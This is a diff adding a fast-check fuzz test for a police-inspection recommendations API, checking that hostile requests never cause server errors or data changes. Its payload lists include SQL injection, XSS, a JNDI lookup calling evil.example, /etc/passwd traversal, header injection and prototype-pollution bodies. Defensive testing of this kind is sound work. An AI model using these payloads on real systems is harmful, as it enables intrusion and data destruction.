@@ -1,0 +1,494 @@
+// 10,000 generated invalid and hostile requests (fast-check) over every write endpoint and list query:
+// never a 5xx, and an invalid one changes no row (a checksum of every table before and after).
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import fc from 'fast-check';
+import pg from 'pg';
+import { TEST_PASSWORD, startApi, type RunningApi, type TestUser } from '../support/api-harness.js';
+
+const INVALID_REQUESTS = 10_000;
+const VALID_HOSTILE_REQUESTS = 300;
+const CONCURRENCY = 20;
+/** Fixed, so that a failure can be replayed; print it in the report. */
+const SEED = Number(process.env.HOSTILE_SEED ?? 20261129);
+
+type Kind = 'string' | 'uuid' | 'date' | 'int' | 'enum' | 'bool' | 'email' | 'duration' | 'array' | 'url';
+interface Field {
+  name: string;
+  kind: Kind;
+  values?: readonly string[];
+  /** Required: a body without it is invalid. */
+  required?: boolean;
+}
+interface Endpoint {
+  method: 'POST' | 'PATCH';
+  /** A path; `{rec}` and `{inspection}` become real ids, so that validation, not a 404, is what answers. */
+  path: string;
+  as: 'admin' | 'lead' | 'liaison' | 'anonymous';
+  fields: readonly Field[];
+  valid: (ids: Ids) => Record<string, unknown>;
+}
+interface Ids {
+  orgA: string;
+  lead: string;
+  rec: string;
+  recVersion: number;
+  inspection: string;
+  inspectionVersion: number;
+  myVersion: number;
+}
+
+// ------------------------------------------------------------------ hostile values
+
+const HOSTILE_TEXT = [
+  "' OR '1'='1",
+  "'; DROP TABLE users; --",
+  '"; DELETE FROM audit_events; --',
+  "1); SELECT pg_sleep(10); --",
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '{{7*7}}',
+  '${jndi:ldap://evil.example/a}',
+  '../../../../etc/passwd',
+  '%00',
+  '\u0000',
+  'a\u0000b',
+  '\u202e\u0635\u0648\u0631\u0629',
+  '\ud83d\ude00\u0301\u200d',
+  '\ud800',
+  'null',
+  'undefined',
+  '__proto__',
+  'constructor',
+  '\r\nX-Injected: 1',
+  ' ',
+  '',
+];
+const HUGE = ['x'.repeat(10_001), 'é'.repeat(50_000), '<'.repeat(90_000)];
+
+const hostileString = fc.oneof(
+  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_TEXT) },
+  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
+  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
+  { weight: 1, arbitrary: fc.constantFrom(...HUGE) },
+);
+
+/** Deep nesting: arrays or objects `depth` levels down. */
+const deep = fc.tuple(fc.integer({ min: 40, max: 1000 }), fc.boolean()).map(([depth, arrays]) => {
+  let value: unknown = 'bottom';
+  for (let i = 0; i < depth; i += 1) value = arrays ? [value] : { a: value };
+  return value;
+});
+
+const wrongType = fc.oneof(
+  fc.integer(),
+  fc.double(),
+  fc.boolean(),
+  fc.constantFrom(1e308, -0, Number.MAX_SAFE_INTEGER + 2),
+  fc.array(fc.oneof(fc.integer(), hostileString), { maxLength: 5 }),
+  fc.dictionary(hostileString, fc.oneof(fc.integer(), hostileString), { maxKeys: 4 }),
+  fc.constant({ $gt: '' }),
+  fc.constant({ __proto__: { polluted: 'yes' } }),
+  deep,
+);
+
+const notUuid = fc.oneof(
+  hostileString.filter((s) => !/^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i.test(s)),
+  fc.constantFrom('00000000-0000-0000-0000-00000000000g', '{00000000-0000-0000-0000-000000000000}', "00000000-0000-0000-0000-000000000000' OR 1=1"),
+);
+const notDate = fc.oneof(
+  fc.constantFrom('2026-02-30', '2026-13-01', '31/03/2026', 'tomorrow', '+275760-09-13T00:00:00Z', '0000-00-00', '2026-03-31T25:61', '1e10', 'NaN'),
+  hostileString.map((s) => `x${s}`),
+);
+const notInt = fc.oneof(fc.double({ noInteger: true }), hostileString, fc.constantFrom('1', '1.0', 'NaN', 'Infinity'), fc.constant(Number.NaN));
+const notDuration = fc.oneof(fc.constantFrom('P', 'PT', 'P-1D', 'P0.5D', '-P1D', 'P1DT', 'P99999999999999999999D', 'PT1.5.5S', 'six weeks'), hostileString.map((s) => `x${s}`));
+
+/** A value that the field can never accept (JSON has no NaN or Infinity: they would arrive as null, which an optional field takes). */
+function invalidFor(field: Field): fc.Arbitrary<unknown> {
+  return invalidValueFor(field).filter((v) => v !== undefined && JSON.stringify(v) !== 'null');
+}
+
+function invalidValueFor(field: Field): fc.Arbitrary<unknown> {
+  const nonString = wrongType.filter((v) => typeof v !== 'string');
+  switch (field.kind) {
+    case 'string':
+      return nonString;
+    case 'uuid':
+      return fc.oneof(notUuid, nonString);
+    case 'date':
+      return fc.oneof(notDate, nonString);
+    case 'int':
+      return notInt;
+    case 'bool':
+      return fc.oneof(hostileString, fc.integer(), fc.constant({}));
+    case 'enum':
+      return fc.oneof(hostileString.filter((s) => !field.values!.includes(s)), nonString);
+    case 'email':
+      return fc.oneof(hostileString.filter((s) => !s.includes('@')), nonString);
+    case 'duration':
+      return fc.oneof(notDuration, nonString);
+    case 'url':
+      return fc.oneof(fc.constantFrom('javascript:alert(1)', 'not a url', 'http://', '//evil'), nonString);
+    case 'array':
+      return fc.oneof(hostileString, fc.integer(), fc.constant({}), fc.array(wrongType.filter((v) => typeof v !== 'object' || v === null), { minLength: 1, maxLength: 3 }), deep.filter(() => true));
+  }
+}
+
+// ------------------------------------------------------------------ endpoints
+
+const ROLES = ['admin', 'manager', 'inspector', 'liaison'];
+const ACTIONS = ['submit_plan', 'update_progress', 'propose_closure', 'authorise_closure', 'return', 'close', 'reopen'];
+
+const ENDPOINTS: Endpoint[] = [
+  {
+    method: 'POST',
+    path: '/auth/login',
+    as: 'anonymous',
+    fields: [
+      { name: 'email', required: true, kind: 'email' },
+      { name: 'password', required: true, kind: 'string' },
+    ],
+    valid: () => ({ email: 'nobody@hostile.test', password: 'not-the-password' }),
+  },
+  {
+    method: 'PATCH',
+    path: '/users/me',
+    as: 'liaison',
+    fields: [
+      { name: 'version', required: true, kind: 'int' },
+      { name: 'reminderDelivery', required: true, kind: 'enum', values: ['immediate', 'daily_digest'] },
+    ],
+    valid: (ids) => ({ version: ids.myVersion, reminderDelivery: 'daily_digest' }),
+  },
+  {
+    method: 'POST',
+    path: '/users',
+    as: 'admin',
+    fields: [
+      { name: 'email', required: true, kind: 'email' },
+      { name: 'name', required: true, kind: 'string' },
+      { name: 'password', required: true, kind: 'string' },
+      { name: 'role', required: true, kind: 'enum', values: ROLES },
+      { name: 'organisationIds', required: true, kind: 'array' },
+    ],
+    valid: (ids) => ({ email: 'new@hostile.test', name: 'New', password: TEST_PASSWORD, role: 'liaison', organisationIds: [ids.orgA] }),
+  },
+  {
+    method: 'POST',
+    path: '/organisations',
+    as: 'admin',
+    fields: [
+      { name: 'name', required: true, kind: 'string' },
+      { name: 'code', required: true, kind: 'string' },
+    ],
+    valid: () => ({ name: 'Hostile Force', code: 'HOSTILE' }),
+  },
+  {
+    method: 'POST',
+    path: '/follow-up-policies',
+    as: 'admin',
+    fields: [
+      { name: 'programme', required: true, kind: 'string' },
+      { name: 'actionPlanAfter', required: true, kind: 'duration' },
+      { name: 'revisitAfter', required: true, kind: 'duration' },
+    ],
+    valid: () => ({ programme: 'Hostile programme', actionPlanAfter: 'P6W', revisitAfter: 'P6M' }),
+  },
+  {
+    method: 'POST',
+    path: '/inspections',
+    as: 'lead',
+    fields: [
+      { name: 'organisationId', required: true, kind: 'uuid' },
+      { name: 'title', required: true, kind: 'string' },
+      { name: 'programme', required: true, kind: 'string' },
+      { name: 'publishedAt', required: true, kind: 'date' },
+      { name: 'leadInspectorId', required: true, kind: 'uuid' },
+      { name: 'actionPlanDueAt', kind: 'date' },
+      { name: 'revisitDueAt', kind: 'date' },
+      { name: 'recommendations', required: true, kind: 'array' },
+    ],
+    valid: (ids) => ({
+      organisationId: ids.orgA,
+      title: 'Hostile inspection',
+      programme: 'PEEL',
+      publishedAt: '2026-01-05T00:00:00Z',
+      leadInspectorId: ids.lead,
+      recommendations: [{ reference: '1', text: 'Do it', timeframe: 'P3M' }],
+    }),
+  },
+  {
+    method: 'PATCH',
+    path: '/inspections/{inspection}',
+    as: 'lead',
+    fields: [
+      { name: 'version', required: true, kind: 'int' },
+      { name: 'title', kind: 'string' },
+      { name: 'publishedAt', kind: 'date' },
+      { name: 'actionPlanDueAt', kind: 'date' },
+      { name: 'revisitDueAt', kind: 'date' },
+    ],
+    valid: (ids) => ({ version: ids.inspectionVersion, title: 'Renamed' }),
+  },
+  {
+    method: 'POST',
+    path: '/recommendations/{rec}/transitions',
+    as: 'liaison',
+    fields: [
+      { name: 'action', required: true, kind: 'enum', values: ACTIONS },
+      { name: 'version', required: true, kind: 'int' },
+      { name: 'comment', kind: 'string' },
+      { name: 'response', kind: 'enum', values: ['agreed', 'partly_agreed', 'not_agreed'] },
+      { name: 'owner', kind: 'string' },
+      { name: 'targetDate', kind: 'date' },
+      { name: 'rag', kind: 'enum', values: ['green', 'amber', 'red'] },
+      { name: 'evidence', kind: 'array' },
+      { name: 'outcome', kind: 'enum', values: ['implemented', 'not_implemented', 'superseded'] },
+    ],
+    valid: (ids) => ({ action: 'submit_plan', version: ids.recVersion, response: 'agreed', owner: 'Owner', actions: 'Act', targetDate: '2030-01-31' }),
+  },
+];
+
+/** Nested payloads: an element of `recommendations` or `evidence` broken in one field. */
+const nestedBreakage: Record<string, fc.Arbitrary<unknown>> = {
+  recommendations: fc.oneof(
+    fc.record({ reference: fc.constant('1'), text: wrongType.filter((v) => typeof v !== 'string') }),
+    fc.record({ reference: wrongType.filter((v) => typeof v !== 'string'), text: fc.constant('t') }),
+    fc.record({ reference: fc.constant('1'), text: fc.constant('t'), timeframe: notDuration.filter((s) => s !== 'immediately') }),
+    fc.record({ reference: fc.constant('1'), text: fc.constant('t'), dueAt: notDate }),
+    fc.record({ reference: fc.constant('1'), text: fc.constant('t'), __proto__: fc.constant({ polluted: 'yes' }), extra: hostileString }),
+  ).map((broken) => [{ reference: '0', text: 'fine' }, broken]),
+  evidence: fc.oneof(fc.record({ title: wrongType.filter((v) => typeof v !== 'string') }), fc.record({ title: fc.constant('t'), url: fc.constantFrom('javascript:alert(1)', 'x') })).map((e) => [e]),
+};
+
+type Mutation = (body: Record<string, unknown>) => void;
+
+/** One mutation that makes any body of this endpoint invalid, then up to two more hostile ones. */
+function invalidBody(endpoint: Endpoint): fc.Arbitrary<{ mutate: Mutation[]; note: string }> {
+  const known = new Set(endpoint.fields.map((f) => f.name).concat(['actions']));
+  const byField = endpoint.fields.map((field) =>
+    invalidFor(field).map((value) => ({ mutate: [(b: Record<string, unknown>) => void (b[field.name] = value)], note: `${field.name}: wrong` })),
+  );
+  const unknownKey = fc
+    .tuple(
+      fc.oneof(fc.constantFrom('__proto__', 'constructor', 'prototype', 'isAdmin', 'role ', '$where', 'id', 'organisationId '), hostileString).filter((k) => !known.has(k)),
+      fc.oneof(hostileString, wrongType),
+    )
+    .map(([key, value]) => ({
+      // JSON.parse makes "__proto__" an own key, as an attacker's request body would.
+      mutate: [(b: Record<string, unknown>) => void Object.defineProperty(b, key, { value, enumerable: true, configurable: true, writable: true })],
+      note: `unknown key ${JSON.stringify(key).slice(0, 30)}`,
+    }));
+  const missing = endpoint.fields
+    .filter((f) => f.required)
+    .map((f) => fc.constant({ mutate: [(b: Record<string, unknown>) => void delete b[f.name]], note: `${f.name}: missing` }));
+  const nested = endpoint.fields
+    .filter((f) => nestedBreakage[f.name])
+    .map((f) => nestedBreakage[f.name].map((value) => ({ mutate: [(b: Record<string, unknown>) => void (b[f.name] = value)], note: `${f.name}: broken element` })));
+  const invalidating = fc.oneof(...byField, unknownKey, ...missing, ...nested);
+  // Extra noise that may or may not be valid on its own: hostile text in the string fields.
+  const noise = fc.array(
+    fc.tuple(fc.constantFrom(...endpoint.fields.filter((f) => f.kind === 'string').map((f) => f.name), 'comment'), hostileString),
+    { maxLength: 2 },
+  );
+  return fc.tuple(invalidating, noise).map(([inv, extra]) => ({
+    // Noise first, the invalidating mutation last, so that it always stands.
+    mutate: [...extra.filter(([name]) => known.has(name)).map(([name, value]) => (b: Record<string, unknown>) => void (b[name] = value)), ...inv.mutate],
+    note: inv.note,
+  }));
+}
+
+// ------------------------------------------------------------------ list queries
+
+const LIST_QUERIES: { path: string; params: Record<string, fc.Arbitrary<unknown>> }[] = [
+  { path: '/recommendations', params: { organisationId: notUuid, inspectionId: notUuid, status: hostileString, overdue: hostileString, priority: hostileString, dueBefore: notDate } },
+  { path: '/inspections', params: { organisationId: notUuid } },
+  { path: '/organisations', params: {} },
+  { path: '/notifications', params: { recommendationId: notUuid, kind: hostileString, status: hostileString } },
+  { path: '/users', params: {} },
+  { path: '/recommendations/{rec}/history', params: {} },
+];
+const badCursor = fc.oneof(
+  hostileString,
+  fc.jsonValue().map((v) => Buffer.from(JSON.stringify(v)).toString('base64url')),
+  fc.tuple(fc.oneof(hostileString, fc.integer(), fc.constant(null)), fc.oneof(notUuid, fc.uuid())).map((v) => Buffer.from(JSON.stringify(v)).toString('base64url')),
+  fc.constantFrom('W10', 'e30', 'bnVsbA', '%', '=='),
+);
+const badLimit = fc.oneof(fc.constantFrom('0', '-1', '501', '1e309', '1.5', 'NaN', '', '9'.repeat(400)), hostileString);
+
+/** Percent-encodes the UTF-8 bytes (an unpaired surrogate is sent as U+FFFD, as a browser would). */
+const pct = (text: string): string => [...Buffer.from(text, 'utf8')].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
+
+function hostileQuery(list: (typeof LIST_QUERIES)[number]): fc.Arbitrary<string> {
+  const own = Object.entries(list.params).map(([name, arb]) => arb.map((value) => [[name, value]] as [string, unknown][]));
+  const generic = [
+    badCursor.map((value) => [['cursor', value]] as [string, unknown][]),
+    badLimit.map((value) => [['limit', value]] as [string, unknown][]),
+    fc.tuple(hostileString, hostileString).map(([k, v]) => [[`x${k}`, v]] as [string, unknown][]),
+  ];
+  return fc.oneof(...own, ...generic).map((pairs) => pairs.map(([k, v]) => `${pct(k)}=${pct(typeof v === 'string' ? v : JSON.stringify(v))}`).join('&'));
+}
+
+/** Garbage in the path where an id belongs. */
+const badPathIds = notUuid.map((id) => pct(id));
+
+// ------------------------------------------------------------------ the run
+
+interface Probe {
+  method: string;
+  path: string;
+  as: Endpoint['as'];
+  body?: unknown;
+  raw?: string;
+  note: string;
+}
+
+async function tableChecksum(db: pg.Client): Promise<Record<string, string>> {
+  const { rows } = await db.query(`SELECT tablename FROM pg_tables WHERE schemaname = 'public' AND tablename <> 'migrations' ORDER BY 1`);
+  const sums: Record<string, string> = {};
+  for (const { tablename } of rows) {
+    const [{ sum, n }] = (await db.query(`SELECT count(*)::int AS n, md5(coalesce(string_agg(t::text, '|' ORDER BY t::text), '')) AS sum FROM "${tablename}" t`)).rows;
+    sums[tablename] = `${n}:${sum}`;
+  }
+  return sums;
+}
+
+async function runAll<T>(items: readonly T[], worker: (item: T) => Promise<void>): Promise<void> {
+  let next = 0;
+  await Promise.all(
+    Array.from({ length: CONCURRENCY }, async () => {
+      while (next < items.length) await worker(items[next++]);
+    }),
+  );
+}
+
+describe('hostile payloads', () => {
+  let api: RunningApi;
+  let db: pg.Client;
+  let lead: TestUser;
+  let liaison: TestUser;
+  let ids: Ids;
+
+  beforeAll(async () => {
+    // Failed logins are part of the run: a limit that high keeps them answering 401, not 429 (both are fine).
+    api = await startApi({ LOGIN_MAX_FAILURES: '100000' });
+    const org = await api.createOrganisation({ name: 'Hostile Force A', code: 'HOSTILE-A' });
+    [lead, liaison] = await Promise.all([api.createUser('inspector'), api.createUser('liaison', [org.id])]);
+    const inspection = await api.createInspection(lead.token, { organisationId: org.id, leadInspectorId: lead.id });
+    ids = {
+      orgA: org.id,
+      lead: lead.id,
+      rec: inspection.recommendations[0].id,
+      recVersion: inspection.recommendations[0].version,
+      inspection: inspection.id,
+      inspectionVersion: inspection.version,
+      myVersion: liaison.version,
+    };
+    db = new pg.Client({ connectionString: api.dbUrl });
+    await db.connect();
+  }, 60_000);
+
+  afterAll(async () => {
+    await db?.end();
+    await api?.close();
+  });
+
+  const clientFor = (as: Endpoint['as']) => (as === 'admin' ? api.adminApi : as === 'lead' ? lead.api : as === 'liaison' ? liaison.api : api.client(null));
+  const fill = (path: string) => path.replace('{rec}', ids.rec).replace('{inspection}', ids.inspection);
+
+  async function send(probe: Probe): Promise<number> {
+    if (probe.raw !== undefined) {
+      const headers: Record<string, string> = { 'content-type': 'application/json', authorization: `Bearer ${api.admin.token}` };
+      const response = await fetch(`${api.baseUrl}${probe.path}`, { method: probe.method, headers, body: probe.raw });
+      await response.arrayBuffer();
+      return response.status;
+    }
+    return (await clientFor(probe.as).request(probe.method, probe.path, probe.body)).status;
+  }
+
+  function invalidProbes(count: number): Probe[] {
+    const perEndpoint = ENDPOINTS.map((endpoint) =>
+      invalidBody(endpoint).map((m): Probe => {
+        const body = structuredClone(endpoint.valid(ids));
+        for (const mutate of m.mutate) mutate(body);
+        return { method: endpoint.method, path: fill(endpoint.path), as: endpoint.as, body, note: `${endpoint.method} ${endpoint.path} ${m.note}` };
+      }),
+    );
+    const lists = LIST_QUERIES.map((list) => hostileQuery(list).map((q): Probe => ({ method: 'GET', path: `${fill(list.path)}?${q}`, as: 'admin', note: `GET ${list.path}?...` })));
+    const paths = badPathIds.chain((id) =>
+      fc.constantFrom<Probe>(
+        { method: 'GET', path: `/recommendations/${id}`, as: 'admin', note: 'bad id' },
+        { method: 'GET', path: `/inspections/${id}`, as: 'admin', note: 'bad id' },
+        { method: 'GET', path: `/organisations/${id}`, as: 'admin', note: 'bad id' },
+        { method: 'GET', path: `/recommendations/${id}/history`, as: 'admin', note: 'bad id' },
+        { method: 'PATCH', path: `/inspections/${id}`, as: 'lead', body: { version: 1, title: 'x' }, note: 'bad id' },
+        { method: 'POST', path: `/recommendations/${id}/transitions`, as: 'liaison', body: { action: 'submit_plan', version: 1 }, note: 'bad id' },
+      ),
+    );
+    const raw = fc.oneof(fc.constantFrom('{', '{"a":', '[', 'null', '"string"', '{"__proto__":{"polluted":"yes"}}', '\u0000', '{"email":"a@b.c","password":"x","__proto__":{"isAdmin":true}}'), fc.string({ unit: 'binary', maxLength: 200 }))
+      .chain((body) => fc.constantFrom(...ENDPOINTS).map((e): Probe => ({ method: e.method, path: fill(e.path), as: 'admin', raw: body, note: `raw body to ${e.path}` })));
+    const probe = fc.oneof({ weight: 12, arbitrary: fc.oneof(...perEndpoint) }, { weight: 4, arbitrary: fc.oneof(...lists) }, { weight: 1, arbitrary: paths }, { weight: 1, arbitrary: raw });
+    return fc.sample(probe, { numRuns: count, seed: SEED });
+  }
+
+  it(`answers ${INVALID_REQUESTS} invalid requests with a 4xx and changes no row`, async () => {
+    const probes = invalidProbes(INVALID_REQUESTS);
+    const before = await tableChecksum(db);
+    const statuses = new Map<number, number>();
+    const serverErrors: string[] = [];
+    const accepted: string[] = [];
+    await runAll(probes, async (probe) => {
+      const status = await send(probe);
+      statuses.set(status, (statuses.get(status) ?? 0) + 1);
+      if (status >= 500) serverErrors.push(`${status} ${probe.note}: ${JSON.stringify(probe.body ?? probe.raw)?.slice(0, 300)}`);
+      else if (status < 400 && probe.method !== 'GET') accepted.push(`${status} ${probe.note}: ${JSON.stringify(probe.body)?.slice(0, 300)}`);
+    });
+    const after = await tableChecksum(db);
+    console.info(`hostile-payloads: ${JSON.stringify({ seed: SEED, invalid: probes.length, statuses: Object.fromEntries([...statuses].sort()) })}`);
+    expect(serverErrors).toEqual([]);
+    expect(accepted).toEqual([]);
+    expect(after).toEqual(before);
+    // Nothing reached Object.prototype.
+    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
+    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
+  }, 300_000);
+
+  it(`stores ${VALID_HOSTILE_REQUESTS} valid requests carrying hostile text as text: no 5xx, and what is read back is what was sent`, async () => {
+    const text = hostileString.filter((s) => s.trim() !== '' && s.length <= 200);
+    const probes = fc.sample(fc.tuple(fc.constantFrom('organisation', 'inspection', 'comment'), text, fc.integer({ min: 0, max: 1e9 })), { numRuns: VALID_HOSTILE_REQUESTS, seed: SEED + 1 });
+    // Recommendations to close, one per comment, made in one go.
+    const bulk = await api.createInspection(lead.token, {
+      organisationId: ids.orgA,
+      leadInspectorId: ids.lead,
+      recommendations: Array.from({ length: VALID_HOSTILE_REQUESTS }, (_, i) => ({ reference: `C${i}` })),
+    });
+    const closable: { id: string; version: number }[] = [...bulk.recommendations];
+    const serverErrors: string[] = [];
+    const mangled: string[] = [];
+    const statuses = new Map<number, number>();
+    await runAll(probes, async ([what, value, n]) => {
+      let response;
+      let readBack: (body: any) => Promise<string | undefined>;
+      if (what === 'organisation') {
+        response = await api.adminApi.post('/organisations', { name: value, code: `H${n}` });
+        readBack = async (body) => (await api.adminApi.get(`/organisations/${body.id}`)).body.name;
+      } else if (what === 'inspection') {
+        response = await lead.api.post('/inspections', { ...ENDPOINTS[5].valid(ids), title: value, recommendations: [{ reference: value.slice(0, 40), text: value }] });
+        readBack = async (body) => (await api.adminApi.get(`/inspections/${body.id}`)).body.title;
+      } else {
+        const rec = closable.pop()!;
+        response = await api.adminApi.post(`/recommendations/${rec.id}/transitions`, { action: 'close', version: rec.version, outcome: 'superseded', comment: value });
+        readBack = async () => (await api.adminApi.get(`/recommendations/${rec.id}`)).body.history.at(-1).comment;
+      }
+      statuses.set(response.status, (statuses.get(response.status) ?? 0) + 1);
+      if (response.status >= 500) serverErrors.push(`${response.status} ${what} ${JSON.stringify(value)}`);
+      // Names and titles are trimmed on the way in; comments are kept as written.
+      else if (response.status < 300 && (await readBack(response.body)) !== (what === 'comment' ? value : value.trim())) mangled.push(`${what} ${JSON.stringify(value)}`);
+    });
+    console.info(`hostile-payloads: ${JSON.stringify({ seed: SEED + 1, validHostile: probes.length, statuses: Object.fromEntries([...statuses].sort()) })}`);
+    expect(serverErrors).toEqual([]);
+    expect(mangled).toEqual([]);
+    // The tables the SQL fragments name are all still there.
+    const { rows } = await db.query(`SELECT count(*)::int AS n FROM users`);
+    expect(rows[0].n).toBeGreaterThan(0);
+  }, 300_000);
+});
